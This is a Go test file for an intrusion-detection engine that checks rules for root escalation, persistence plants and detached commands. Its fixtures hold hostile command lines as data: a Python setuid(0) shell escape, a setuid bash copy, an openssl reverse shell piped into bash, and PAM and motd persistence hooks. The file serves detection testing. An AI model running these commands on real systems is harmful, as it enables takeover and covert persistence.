package detect

import (
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// TestRootGained: a shell or interpreter that becomes root without a
// program made for it is the escalation (shop-import: python with
// cap_setuid+ep calling setuid(0); shop-reviews: a setuid copy of bash run
// with -p); sudo, su, a setuid mail helper and daemons dropping rights
// are not.
func TestRootGained(t *testing.T) {
	type proc struct {
		pid, ppid int
		uid, euid uint32
		exe       string
		args      []string
	}
	for _, c := range []struct {
		name  string
		procs []proc // the last one is judged
		want  bool
	}{
		{"python given cap_setuid", []proc{
			{100, 1, 33, 33, "/usr/bin/dash", []string{"sh", "-i"}},
			{101, 100, 33, 33, "/usr/local/bin/python3-backup", []string{"python3-backup", "-c", "import os;os.setuid(0);os.system('/bin/sh')"}},
			{102, 101, 0, 0, "/usr/bin/dash", []string{"sh", "-c", "/bin/sh"}},
		}, true},
		{"a setuid copy of bash", []proc{
			{100, 1, 33, 33, "/usr/bin/dash", []string{"sh", "-c", "x"}},
			{101, 100, 33, 0, "/var/tmp/.dbus-launch", []string{"/var/tmp/.dbus-launch", "-p", "-c", "id"}},
		}, true},
		{"sudo", []proc{
			{100, 1, 2002, 2002, "/usr/bin/bash", []string{"-bash"}},
			{101, 100, 2002, 0, "/usr/bin/sudo", []string{"sudo", "tail", "/var/log/syslog"}},
		}, false},
		{"what sudo runs", []proc{
			{100, 1, 2002, 0, "/usr/bin/sudo", []string{"sudo", "tail", "/var/log/syslog"}},
			{101, 100, 0, 0, "/usr/bin/tail", []string{"tail", "/var/log/syslog"}},
		}, false},
		{"a setuid mail helper", []proc{
			{100, 1, 33, 33, "/usr/bin/dash", []string{"sh", "-c", "/usr/sbin/sendmail -t -i"}},
			{101, 100, 33, 0, "/usr/sbin/exim4", []string{"/usr/sbin/sendmail", "-t", "-i"}},
		}, false},
		{"a daemon dropping rights", []proc{
			{100, 1, 0, 0, "/usr/sbin/php-fpm8.2", []string{"php-fpm: master process"}},
			{101, 100, 33, 33, "/usr/bin/dash", []string{"sh", "-c", "date"}},
		}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, err := New(Options{})
			if err != nil {
				t.Fatal(err)
			}
			s := newSynth()
			var fs []*Finding
			for _, p := range c.procs {
				ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: p.pid, PPID: p.ppid,
					UID: parser.NewID(p.uid), EUID: parser.NewID(p.euid), AUID: parser.NewID(parser.Unset), Exe: p.exe, Args: p.args, Cwd: "/"}
				fs = e.Observe(s.next(ev), s.tree)
			}
			got := findingOf(fs, "root-gained")
			if (got != nil) != c.want {
				t.Fatalf("root-gained fired: %v, want %v (%v)", got != nil, c.want, ids(fs))
			}
			if got != nil && (got.Stage != StageSuspiciousSpawn || got.Severity != SeverityHigh) {
				t.Errorf("stage %v severity %v, want 4 high", got.Stage, got.Severity)
			}
		})
	}
}

// TestPlantKnownByItsCommand: a persistence file no watch covers is known
// from the intruder's command that made it runnable (shop-import: chmod
// 755 /etc/update-motd.d/60-sysinfo in a root shell of the web server's
// channel); its run by the next login is the plant firing. An
// administrator's same command plants nothing.
func TestPlantKnownByItsCommand(t *testing.T) {
	const hook = "/etc/update-motd.d/60-sysinfo"
	for _, intruder := range []bool{true, false} {
		e, s := webShellScene(t)
		if intruder {
			// a root shell below the web server's, through a sudo rule
			s.exec(205, 201, 33, "www-data", "/", "/usr/bin/sudo", "sudo", "sh", "-c", "x")
			e.Observe(s.exec(210, 205, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "echo Y3VybA== | base64 -d > "+hook+"; chmod 755 "+hook), s.tree)
		} else {
			s.exec(300, 1, 0, "root", "/root", "/usr/sbin/sshd", "sshd: alice [priv]")
			s.exec(301, 300, 0, "root", "/root", "/usr/bin/bash", "-bash")
			e.Observe(s.exec(302, 301, 0, "root", "/root", "/usr/bin/chmod", "chmod", "755", hook), s.tree)
		}
		// the next ssh login's message of the day
		s.exec(400, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd: bob [priv]")
		s.exec(401, 400, 0, "root", "/", "/usr/bin/run-parts", "run-parts", "--lsbsysinit", "/etc/update-motd.d")
		fs := e.Observe(s.exec(402, 401, 0, "root", "/", "/usr/bin/dash", "/bin/sh", hook), s.tree)
		if got := findingOf(fs, RulePlantedFileRun); (got != nil) != intruder {
			t.Errorf("intruder %v: planted-file-run fired %v (%v)", intruder, got != nil, ids(fs))
		}
	}
}

// TestDetachedByArgv: a command a launcher in the web server's context
// detaches (setsid -f) is re-parented to init before it execs; the orphan
// that execs exactly that argv just after is the launcher's, whatever its
// account (shop-search: a root shell reached through sudo started its
// TLS channel so). Another orphan, or the same argv much later, is not.
func TestDetachedByArgv(t *testing.T) {
	cmd := []string{"/bin/sh", "-c", "openssl s_client -quiet -connect 10.9.9.9:8443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 10.9.9.9:8444"}
	for _, c := range []struct {
		name  string
		argv  []string
		delay time.Duration
		want  bool
	}{
		{"the detached command", cmd, 5 * time.Millisecond, true},
		{"another orphan", []string{"/usr/sbin/cron", "-f"}, 5 * time.Millisecond, false},
		{"the same argv much later", cmd, time.Minute, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			s.exec(205, 201, 33, "www-data", "/", "/usr/bin/sudo", "sudo", "-n", "/usr/local/bin/job")
			e.Observe(s.exec(206, 205, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "/usr/local/bin/job"), s.tree)
			e.Observe(s.exec(207, 206, 0, "root", "/", "/usr/bin/setsid", append([]string{"setsid", "-f"}, cmd...)...), s.tree)
			s.t = s.t.Add(c.delay)
			ev := s.exec(300, 1, 0, "root", "/", "/usr/bin/dash", c.argv...)
			e.Observe(ev, s.tree)
			in := e.state.info(ev.Proc)
			if got := in.web != nil; got != c.want {
				t.Errorf("orphan adopted for the web server: %v, want %v", got, c.want)
			}
		})
	}
}

// TestHookNamedScriptRuns: what a persistence hook names is what it will
// run (shop-search: sed -i '$a session optional pam_exec.so quiet
// /usr/lib/x86_64-linux-gnu/security/pam_sync.sh' /etc/pam.d/sshd in the
// intruder's root shell); its run at the next ssh login is the plant
// firing. A shared program the hook names (/bin/sh) is not.
func TestHookNamedScriptRuns(t *testing.T) {
	const script = "/var/lib/.sync/pam_sync.sh" // in no persistence place: the hook names it
	e, s := webShellScene(t)
	s.exec(205, 201, 33, "www-data", "/", "/usr/bin/sudo", "sudo", "sh", "-c", "x")
	e.Observe(s.exec(210, 205, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "cd /dev/shm && sed -i '$a session optional pam_exec.so quiet "+script+" /bin/sh' /etc/pam.d/sshd"), s.tree)
	s.exec(400, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd: alice [priv]")
	fs := e.Observe(s.exec(401, 400, 0, "root", "/", "/usr/bin/dash", "/bin/sh", script), s.tree)
	if findingOf(fs, RulePlantedFileRun) == nil {
		t.Errorf("the hook's script ran at login unseen: %v", ids(fs))
	}
	fs = e.Observe(s.exec(402, 400, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "-c", "motd"), s.tree)
	if findingOf(fs, RulePlantedFileRun) != nil {
		t.Error("a run of /bin/sh taken for the plant")
	}
}
